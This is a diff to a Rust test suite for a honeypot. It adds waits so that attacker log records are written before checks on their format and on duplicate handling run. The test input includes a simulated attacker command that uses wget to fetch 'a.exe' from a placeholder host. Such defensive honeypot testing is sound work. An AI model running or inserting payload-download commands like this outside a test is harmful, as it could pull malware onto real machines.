@@ -463,6 +463,14 @@ fn outputs_describe_the_attack_after_its_downloads(launch: Launch) {
     lab.expect_download("a.exe", &a);
     let events = scratch.join("events.json");
     assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", read(&events));
+    // The closed event comes before the attack's records: wait for those too.
+    let records = |n: usize| {
+        wait_until(T, || {
+            read(&scratch.join("attacker.log")).lines().count() == n
+                && read(&scratch.join("attackers.json")).lines().count() == n
+        })
+    };
+    assert!(records(1), "{}", lab.log());
 
     // logAttacker: one line, the exact shape of SPEC 8.17.
     let attacker = read(&scratch.join("attacker.log"));
@@ -520,6 +528,7 @@ fn outputs_describe_the_attack_after_its_downloads(launch: Launch) {
     assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
     lab.attack(format!("wget http://{CLI4}/a.exe\n").into_bytes());
     assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", lab.log());
+    assert!(wait_until(T, || read(&scratch.join("attackers.json")).lines().count() == 2), "{}", lab.log());
     assert_eq!(read(&scratch.join("attacker.log")).lines().count(), 1);
     assert_eq!(read(&scratch.join("attacker.log.1")).lines().count(), 1);
     assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
